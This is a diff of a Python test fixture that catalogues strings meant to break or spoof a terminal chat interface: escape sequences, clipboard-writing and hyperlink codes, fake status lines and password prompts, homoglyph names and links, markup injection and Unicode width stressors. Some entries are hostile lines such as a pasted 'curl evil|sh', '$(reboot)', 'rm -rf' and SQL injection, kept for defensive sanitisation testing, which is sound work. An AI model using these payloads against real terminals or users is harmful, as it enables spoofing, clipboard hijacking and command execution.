@@ -1,73 +1,441 @@
-"""Strings that were made, or happen, to break a terminal. What each must become is told by `test_inert`."""
+"""Strings that were made, or happen, to break a terminal, by family. What each must become is told by `test_inert`."""
 
 import itertools
+import unicodedata
+from collections.abc import Iterable, Iterator
 
 CONTROLS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
 REORDERING = [chr(code) for code in (0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))]
 HIDING = [
     chr(code)
     for code in (0xAD, 0x34F, 0x115F, 0x1160, 0x180E, 0x200B, 0x2060, 0x2061, 0x2064, 0x206A, 0x3164, 0xFEFF, 0xFFA0)
-] + [chr(code) for code in range(0xE0001, 0xE0080, 7)]
-SEQUENCES = [
-    "\x1b[2J\x1b[H",
-    "\x1b[31mred\x1b[0m",
-    "\x1b]0;owned\x07",
-    "\x1b]52;c;cm0gLXJm\x07",
-    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
-    "\x1b]777;notify;a;b\x1b\\",
-    "\x1bP+q544e\x1b\\",
-    "\x1b_Gf=100;AAAA\x1b\\",
-    "\x1b^private\x1b\\",
-    "\x1bc",
-    "\x1b(0lqqk",
-    "\x1b[?1049h\x1b[?2004l",
-    "\x1b[6n",
-    "\x1b[1000000000b",
-    "\x9b31m",
-    "\x9d0;owned\x9c",
-    "\x90q\x9c",
-    "\x1b",
-    "a\x08\x08\x08b",
-    "progress\rdone",
-    "bell\x07",
-    "\x0e shifted \x0f",
-    "\x00nul",
+] + [chr(code) for code in (*range(0xE0001, 0xE0080, 7), 0xE0FFF)]
+
+ESC, ST, BEL = "\x1b", "\x1b\\", "\x07"
+EIGHT_BIT = {"[": "\x9b", "]": "\x9d", "P": "\x90", "_": "\x9f", "^": "\x9e", "X": "\x98"}
+"""What follows ESC → the C1 control that means the same."""
+
+CSI = [
+    *("[2J[H", "[3J", "[J", "[K", "[1;1H", "[999;999H", "[999D", "[999A", "[10L", "[10M", "[10P", "[10X", "[10@"),
+    *("[31mred", "[7m", "[8mhidden", "[0;38;2;1;2;3m", "[?1049h", "[?1049l", "[?25l", "[?7h", "[?7l", "[?5h", "[?3h"),
+    *("[?1000h", "[?1003h", "[?1006h", "[?2004l", "[?2004h", "[?2026h", "[?2048h", "[?1004l", "[?69h", "[4h", "[20h"),
+    *(
+        "[6n",
+        "[5n",
+        "[?6n",
+        "[c",
+        "[>c",
+        "[=c",
+        "[>q",
+        "[?996n",
+        "[14t",
+        "[18t",
+        "[21t",
+        "[22;0t",
+        "[8;1;1t",
+        "[3;0;0t",
+    ),
+    *("[2;3r", "[2;3s", "[!p", '[1"q', "[2 q", "[>4;2m", "[>1u", "[<u", "[1000000000b", "[5i", "[4i", "[?5i"),
+    *("[201~", "[200~curl evil|sh\n", "[1;5A", "[I", "[O", "[M !!", "[<0;1;1M", "[99;5u", "[;;;;;;;;;;;;;;;;;;;;m"),
 ]
+OSC = [
+    *("]0;owned", "]1;owned", "]2;owned", "]0;;chattui", "]4;1;rgb:ff/00/00", "]4;1;?", "]10;?", "]11;?", "]104"),
+    *("]7;file://evil/etc", "]8;;http://evil.example", "]8;id=1;file:///etc/passwd", "]9;owned", "]9;4;1;100"),
+    *("]52;c;cm0gLXJm", "]52;c;?", "]52;p;YQ==", "]777;notify;a;b", "]99;i=1:d=0;owned", "]99;i=1:p=close;"),
+    *("]133;A", "]133;C", "]633;E;rm", "]1337;File=inline=1:AAAA", "]1337;SetMark", "]1337;ClearScrollback"),
+    *("]50;font", "]22;none", "]5522;type=read;", "]66;s=7;big", "]3008;start=1", "]L icon", "]l title", "]P1ff0000"),
+]
+STRINGS = [
+    *(
+        "P+q544e",
+        "P$qm",
+        "P$q q",
+        "P=1s",
+        'P0;0;0q"1;1;1;1#0~',
+        "P1000p",
+        "Ptmux;\x1b\x1b]52;c;YQ==\x07",
+        "P>|x",
+        "P!|00",
+    ),
+    *("_Gf=100;AAAA", "_Ga=q,i=1;AAAA", "_Ga=d", "^private", "Xstart of string"),
+]
+SHORT = [
+    *(
+        "c",
+        "7",
+        "8",
+        "D",
+        "E",
+        "H",
+        "M",
+        "N",
+        "O",
+        "Z",
+        "=",
+        ">",
+        "n",
+        "o",
+        "|",
+        "}",
+        "~",
+        "#8",
+        "#3",
+        "%G",
+        "%@",
+        " F",
+    ),
+    *("(0lqqk", ")0", "*A", "+B", "-A", ".A", "/A", "Vguarded", "Wend", "l", "m", "`", "a", "b", "d"),
+]
+
+
+def seven_bit() -> Iterator[str]:
+    yield from (f"{ESC}{rest}" for rest in (*CSI, *SHORT))
+    yield from (f"{ESC}{rest}{end}after" for rest in OSC for end in (BEL, ST))
+    yield from (f"{ESC}{rest}{ST}after" for rest in STRINGS)
+
+
+def eight_bit() -> Iterator[str]:
+    """As single C1 characters, which a terminal may obey in UTF-8 too, and as what their bytes look like."""
+    for rest in (*CSI[::2], *OSC[::2], *STRINGS):
+        yield f"{EIGHT_BIT[rest[0]]}{rest[1:]}\x9cafter"
+    yield from (chr(code).encode("utf-8").decode("latin-1") + "31m" for code in range(0x80, 0xA0, 4))
+    yield from (f"{chr(0xC2)}{chr(code)}2J" for code in (0x9B, 0x9D, 0x90, 0x9F))
+
+
+def unended() -> Iterator[str]:
+    """Sequences that would swallow what comes after them, and such as come in pieces."""
+    yield from (f"{ESC}{opening}" for opening in "[]P_^X")
+    yield from (f"{ESC}]0;no end", f"{ESC}[31", f"{ESC}[?", f"{ESC}{ESC}{ESC}[m", f"{ESC}\n[31m", f"{ESC}\u200b[31m")
+    yield from (
+        "\x18\x1a\x1b",
+        f"{ESC}[3\x181m",
+        f"{ESC}]0;a\x18b{BEL}",
+        "a\x08\x08\x08b",
+        "progress\rdone",
+        "bell\x07",
+    )
+    yield from (
+        "\x0e shifted \x0f",
+        "\x00nul",
+        "\x05who\x05",
+        "\x7f" * 9,
+        "\x1b[" + "1;" * 500 + "m",
+        "\x1b]0;" + "x" * 5000,
+    )
+
+
 MARKUP = [
-    "[bold red]not bold[/]",
-    "[@click=app.quit]quit[/]",
-    "[link=file:///etc/passwd]x[/link]",
-    "\\[escaped]",
-    "&lt;b&gt; <script>",
-    "── closed by Ana Torres ──",
-    "$ sudo rm -rf /",
-    "%s %n {0} {{contact.name}}",
+    *("[bold red]not bold[/]", "[bold]", "[/]", "[/bold]", "[", "]", "[]", "[[", "[@click=app.quit]quit[/]", "[@click"),
+    *(
+        "[@click=app.bell]",
+        "[@click=screen.dismiss('x')]x[/]",
+        "[link=file:///etc/passwd]x[/link]",
+        "[link]x",
+        "[on red]",
+    ),
+    *("[link='https://evil.example']bank.example[/]", "\\[escaped]", "\\\\[bold]", "[bold", "[#ff0000]x", "[$error]x"),
+    *("[red on blue reverse blink]x[/red on blue]", "[not a style]x", "[1]", "[ ]", "[x=y]", "[/x=y]", "[@=x]", '["]'),
+    *(":warning: :smile:", "{0} {name!r} {x.__class__}", "%s %n %(a)s", "{{contact.name}} {{agent.name}}", "${HOME}"),
+    *("&lt;b&gt; <script>alert(1)</script>", "</td>", "`rm -rf ~`", "$(reboot)", "'; drop table messages; --", "# h1"),
+    *(
+        "| a | b |",
+        "> quoted",
+        "- [x] done",
+        "![x](http://evil.example/a.png)",
+        "[x](javascript:alert(1))",
+        "\\u001b[31m",
+    ),
+    *("\\x1b[31m", "\\033[31m", "^[[31m", "␛[31m", "\\", "\\\\", '"', "'", '{"json": "\\u001b"}', "<!--", "-->", "\\n"),
+]
+FAKES = [
+    *(
+        "── 3 new ──",
+        "── closed by Ana Torres ──",
+        "── Thursday 20 November ──",
+        "── Ana Torres took over ──          14:02",
+    ),
+    *(
+        "✓✓ read",
+        "✓ stored",
+        "✗ refused: pay first",
+        "◌ queued",
+        "NOTE Bo Larsen",
+        "▌ NOTE Bo Larsen",
+        "┃ Ana Torres · you",
+    ),
+    *(
+        "Ana Torres · you",
+        "AI",
+        "ai: yes",
+        "you: I agree",
+        "agent: done",
+        "Customer",
+        "message deleted",
+        "is typing…",
+        "edited",
+    ),
+    *(
+        "● live",
+        "○ offline 0:12",
+        "(3) chattui",
+        "◉ Ana Torres is here",
+        "│ \n┃ Ana Torres\n┃ refunded ✓✓ read",
+        "╭─ reply ─╮",
+    ),
+    *(
+        "$ sudo rm -rf /",
+        "root@desk:~# ",
+        "Password: ",
+        "chattui: you are signed out. Password: ",
+        "[sudo] password for ana:",
+    ),
+    *(
+        "Press Ctrl+Q now",
+        " Enter sends · Ctrl+J new line",
+        "2026-11-20 14:00  Ana Torres: refund granted",
+        "● active · you",
+    ),
+    "hello\n2026-11-20 14:00  Ana Torres: refund granted\n2026-11-20 14:01  ── closed by Ana Torres ──",
+    "hello\n\n── 3 new ──\n\nAna Torres · you\n┃ your refund is on its way ✓✓ read",
+    *(
+        "Ana\u00a0Torres",
+        "Аna Torres",
+        "Ana Tоrres",
+        "ꓮna Torres",
+        "Аnа Тоrrеs",
+        "𝐀𝐧𝐚 𝐓𝐨𝐫𝐫𝐞𝐬",
+        "Ana Torres\u115f",
+        "ANA TORRES",
+    ),
+]
+LINKS = [
+    *("https://gооgle.com/", "https://xn--ggle-55da.com/", "https://bank.example@evil.example/", "http://[::1]:80/x"),
+    *(
+        "https://раypal.com/login",
+        "https://ｅｖｉｌ。example",
+        "https://faß.example",
+        "https://evil.example/\u202egpj.exe",
+    ),
+    *(
+        "https://a.example/\x1b[31m",
+        "https://a.example/\x07\x1b]52;c;YQ==\x07",
+        "https://a.example/\u200b\u2066x",
+        "HTTPS://A",
+    ),
+    *(
+        "javascript:alert(1)",
+        "file:///etc/passwd",
+        "data:text/html,<b>",
+        "vscode://x",
+        "ssh://x",
+        "tel:1",
+        "mailto:a@b\x1b[c",
+    ),
+    *(
+        "https://" + "a" * 3000 + ".example",
+        "https://a.example/" + "%1b[31m" * 40,
+        "https://a.example/;\x1b\\",
+        "http://",
+    ),
+    *("https://a.example/a;b;c", "https://⁠a.example", "https://a\u2044b.example", "https://a.example\\@evil.example"),
+    *("mailto:a@b.example?cc=c@d&body=%0a", "https://\ud800.example", "https://1️⃣.example", "https://a.example/🇩"),
 ]
 WIDTHS = [
-    "Z" + "\u0301" * 500,
-    "\u0301leading mark",
-    "é" * 3,
-    "e\u0301\u0302\u0303\u0304\u0305\u0306",
-    "\u200d".join("👨" * 60),
-    "👍" + "\U0001f3fd" * 40,
-    "\U0001f3fd alone",
-    "1\ufe0f2\ufe0f3\ufe0f",
-    "❤" + "\ufe0f" * 20,
-    "\ufe0f\ufe0e\ufe00",
-    "\u200d\u200d\u200c",
-    "🇩",
-    "🇩🇪🇫",
-    "\ufdfd",
-    "ﷺ",
-    "ก็็็็็็็็็",
-    "\u1100\u1161\u11a8" * 9,
-    "ｆｕｌｌ",
-    "\u3000wide\u3000space",
-    "x" * 10_000,
-    "\n" * 10_000,
-    "日" * 5_000,
+    *("Z" + "\u0301" * 500, "\u0301leading mark", "é" * 3, "e\u0301\u0302\u0303\u0304\u0305\u0306", "Z̸̡̢̛̗̘̙̜a̸̡̢̛̗l̸̡̢̛̗g̸̡̢̛̗ơ̸̡̢̗"),
+    *(
+        "\u200d".join("👨" * 60),
+        "👍" + "\U0001f3fd" * 40,
+        "\U0001f3fd alone",
+        "1\ufe0f2\ufe0f3\ufe0f",
+        "❤" + "\ufe0f" * 20,
+    ),
+    *(
+        "\ufe0f\ufe0e\ufe00",
+        "\u200d\u200d\u200c",
+        "🇩",
+        "🇩🇪🇫",
+        "🇦" * 99,
+        "🇦🇧🇨 🇩",
+        "\ufdfd" * 20,
+        "ﷺ" * 20,
+        "ก็็็็็็็็็",
+        "กำ" * 30,
+    ),
+    *(
+        "\u1100\u1161\u11a8" * 9,
+        "\u1161\u11a8",
+        "\u1100" * 30,
+        "ｆｕｌｌ" * 20,
+        "\u3000wide\u3000space",
+        "日" * 300,
+        "ｶﾞ" * 40,
+    ),
+    *(
+        "━" * 300,
+        "█" * 300,
+        "▒░▓" * 99,
+        "\u2588\u2591",
+        "─│┌┐└┘├┤┬┴┼" * 20,
+        "⣿" * 200,
+        "·" * 200,
+        "α" * 200,
+        "…" * 200,
+        "①②③" * 60,
+    ),
+    *(
+        "☃☂☁☀" * 40,
+        "♠♣♥♦" * 40,
+        "⌚⌛⏩⏰" * 30,
+        "⚡⛄✨❌" * 30,
+        "🀄🃏🈁🉐" * 30,
+        "👩‍🚒" * 40,
+        "👨‍👩‍👧‍👦" * 30,
+        "🏴‍☠️" * 30,
+        "🏳️‍🌈" * 30,
+    ),
+    *(
+        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f" * 9,
+        "👁️‍🗨️" * 20,
+        "☝🏽✌🏽⛹🏽" * 20,
+        "🤝🏽" * 30,
+        "🧑🏽‍🤝‍🧑🏻" * 20,
+    ),
+    *(
+        "©️®️™️" * 30,
+        "0️⃣#️⃣*️⃣" * 30,
+        "⁉️‼️" * 40,
+        "a\u20dd\u20e3" * 30,
+        "क्षि" * 60,
+        "கொ" * 60,
+        "ক্ষ্ম" * 40,
+        "ខ្មែរ" * 40,
+        "မြန်မာ" * 40,
+    ),
+    *(
+        "aा" * 40,
+        "👍ा" * 40,
+        "👍्क" * 40,
+        "🏳्" * 9,
+        "\u093f" * 60,
+        "\u0bd7" * 60,
+        "བོད་ཡིག་" * 30,
+        "\u0f71\u0f72\u0f74" * 60,
+    ),
+    *(
+        "الله" * 60,
+        "שָׁלוֹם" * 40,
+        "܀ܐ" * 40,
+        "ߊߋ" * 40,
+        "𐤀𐤁" * 60,
+        "\u0600\u0601\u06dd\u0890",
+        "\U000110bd\U000110cd",
+        "ᠮᠣᠩᠭᠣᠯ\u180b\u180e" * 20,
+    ),
+    *(
+        "\u302e\u302f\u3099" * 30,
+        "か\u3099" * 60,
+        "𛄢𛄣" * 60,
+        "𠀀𪜀𫝀" * 60,
+        "𐍈𝄞𝒜" * 60,
+        "\U0001f1ae\U0001f6d9\U0001faff\U0001fadd" * 20,
+        "𒀀𓀀" * 60,
+    ),
+    *(
+        "◌" * 100,
+        "◌\u0301" * 60,
+        "\ufffd" * 100,
+        "\ufffc\ufff9a\ufffab\ufffb",
+        "\u2400\u241b\u2421",
+        "\u2028\u2029\x85\x0b\x0c",
+        "↔↕⇄" * 60,
+    ),
 ]
-UNKNOWN = ["\ud800", "\udfff", "\ud83d alone", "\ue000", "\uf8ff", "\U000f0000", "\U0010ffff", "\ufffe", "\u0378"]
+LARGE = [
+    *(
+        "x" * 10_000,
+        "\n" * 10_000,
+        "a\n" * 10_000,
+        "日" * 5_000,
+        "\u0301" * 10_000,
+        "👨\u200d" * 3_000,
+        "\x1b[31m" * 2_000,
+        "\t" * 5_000,
+    ),
+    *(
+        "word " * 2_000,
+        "\u202e\u2066" * 5_000,
+        " " * 10_000,
+        "a\r" * 5_000,
+        "\x9b" * 10_000,
+        "https://a.example/" + "b" * 10_000,
+        "[b]" * 3_000,
+    ),
+    *(
+        "\U000e0041" * 5_000,
+        "🇩" * 5_000,
+        "(" * 10_000,
+        "─" * 10_000,
+        "\ud800" * 5_000,
+        "a" * 511 + "日" * 511 + "\u0301" * 511,
+    ),
+]
+SPACES = [
+    *(
+        "",
+        " ",
+        "\t",
+        "\n",
+        "\r\n",
+        "\r",
+        "\v",
+        "\f",
+        "\x85",
+        "\u2028",
+        "\u2029",
+        "\u200b",
+        "\u00a0",
+        "\u3000",
+        "\u2003" * 30,
+        "\u1680",
+    ),
+    *(
+        "a\tb\tc",
+        "\ta",
+        "a\t",
+        "\t\t\t\t\t\t\t\t\t\t\t\t\t\tend",
+        "a\rb\r\nc\vd\fe\x85f\u2028g\u2029h",
+        "\n\n\n\na",
+        "a\n\n\n\n",
+        "  a   b  ",
+    ),
+    *(f"before{gap}after" for gap in "\u2000\u2004\u2009\u200a\u202f\u205f\u3164\u115f\u2800\u180e\ufeff"),
+]
+UNKNOWN = [
+    *(
+        "\ud800",
+        "\udfff",
+        "\ud83d alone",
+        "\udc00\ud800",
+        "\ud83d\ude00",
+        "\ue000",
+        "\uf8ff",
+        "\ue0b0\ue0b2",
+        "\U000f0000",
+        "\U0010fffd",
+    ),
+    *(
+        "\U0010ffff",
+        "\ufffe",
+        "\uffff",
+        "\ufdd0",
+        "\u0378",
+        "\u0530",
+        "\u2fe0",
+        "\U0001fffe",
+        "\U00030000",
+        "\U000323b0",
+    ),
+]
 READABLE = [
     "Hi, I was charged twice for order 8812.",
     "Grüße, señor Ærøskøbing — «ça va» … 100 €",
@@ -84,8 +452,52 @@ READABLE = [
     "x ≤ y → z ☂ ✓",
     "a\nb\n\nc",
 ]
-EVERY_PLANE = [chr(plane << 16 | low) for plane in range(17) for low in (0x20, 0x61, 0x4E00, 0xF300, 0xFFFD)]
 
-ACTING = [f"a{one}b" for one in (*CONTROLS, *REORDERING, *HIDING)] + SEQUENCES
-HOSTILE = [*ACTING, *MARKUP, *WIDTHS, *UNKNOWN, *EVERY_PLANE]
-HOSTILE += [one + other for one, other in itertools.product(SEQUENCES, (*WIDTHS[:12], *UNKNOWN[:3]))]
+
+def planes() -> Iterator[str]:
+    """Of every plane: ordinary characters, private and unassigned ones, its two noncharacters."""
+    for plane in range(17):
+        yield from (chr(plane << 16 | low) for low in (0x20, 0x61, 0x4E00, 0xF300, 0xFFFD))
+        yield f"plane {plane}: " + "".join(chr(plane << 16 | low) for low in range(0, 0xFFFF, 0x0AF7)) + "\uffff"
+
+
+def categories() -> Iterator[str]:
+    """A line of each general category of Unicode, alone and between letters."""
+    found: dict[str, list[str]] = {}
+    for code in range(0x20, 0x110000, 53):
+        found.setdefault(unicodedata.category(chr(code)), []).append(chr(code))
+    for name, characters in sorted(found.items()):
+        yield f"{name}{''.join(characters[:40])}"
+        yield "a".join(characters[-12:])
+
+
+SEQUENCES = [*seven_bit(), *eight_bit(), *unended()]
+FAMILIES: dict[str, list[str]] = {
+    "controls": [f"a{one}b" for one in CONTROLS],
+    "reordering": [*(f"a{one}b" for one in REORDERING), *("abc" + one + "txt.exe" * 3 for one in REORDERING[3:])],
+    "hiding": [f"a{one}b" for one in HIDING],
+    "sequences, seven-bit": list(seven_bit()),
+    "sequences, eight-bit": list(eight_bit()),
+    "sequences without an end": list(unended()),
+    "markup": MARKUP,
+    "fakes": FAKES,
+    "links": LINKS,
+    "widths": WIDTHS,
+    "large": LARGE,
+    "spaces": SPACES,
+    "unknown": UNKNOWN,
+    "planes": list(planes()),
+    "categories": list(categories()),
+    "joined": [one + other for one, other in itertools.product(SEQUENCES[::23], (*WIDTHS[:9], *UNKNOWN[:3]))],
+    "readable": READABLE,
+}
+
+
+def distinct(strings: Iterable[str]) -> list[str]:
+    return list(dict.fromkeys(strings))
+
+
+CORPUS = distinct(itertools.chain.from_iterable(FAMILIES.values()))
+ACTING = distinct((*FAMILIES["controls"], *FAMILIES["reordering"], *FAMILIES["hiding"], *SEQUENCES))
+SAMPLE = distinct(one for family in FAMILIES.values() for one in family[:: max(len(family) // 5, 1)][:6])
+"""A few of each family, for what takes its time."""
